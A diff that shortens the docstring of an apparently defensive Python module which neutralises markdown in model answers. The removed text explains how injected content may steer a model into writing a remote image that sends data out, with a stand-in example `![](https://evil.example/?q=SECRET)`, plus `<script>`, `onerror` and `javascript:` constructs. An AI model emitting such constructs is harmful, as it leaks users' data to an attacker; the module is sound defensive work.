@@ -1,21 +1,6 @@
-"""Answers safe to render: what a note may have steered a model into writing is neutralised
-before the answer reaches a client that renders markdown (pure).
-
-A note is data, but a model may still repeat what it says, and a markdown client acts on
-some constructs by itself: it fetches an image as soon as it renders it (a remote image's
-address can carry data out: `![](https://evil.example/?q=SECRET)`), runs raw HTML (`<script>`,
-`<img onerror=...>`) and follows `javascript:` links. So, found by the markdown parser the
-chunker uses (pulldown-cmark through pyromark; never inside code, which renders as text):
-
-- an image becomes a plain link to the same address (`![x](u)` → `[x](u)`, `[image](u)`
-  with no alt text), so nothing is fetched unless the reader follows it;
-- a link whose address uses a dangerous scheme (`javascript:`, `vbscript:`, `data:`) is
-  shown as text (its `[` or `<` as an entity), so it cannot be followed;
-- raw HTML (tags, comments, HTML blocks) is escaped (`<` as `&lt;`), so it shows as text.
-
-A reference-style image or dangerous link is neutralised at its definition
-(`[d]: javascript:...` shown as text), which comes after it in the answer as models write
-them, so a streamed answer never has to take back what it showed. Docs: docs/chat.md.
+"""Answers safe to render (pure): images become links, links with a dangerous scheme and raw
+HTML become text, as the markdown parser reads the answer (never inside code), so a client
+rendering it fetches and runs nothing a note may have injected. Docs: docs/chat.md.
 """
 
 from __future__ import annotations
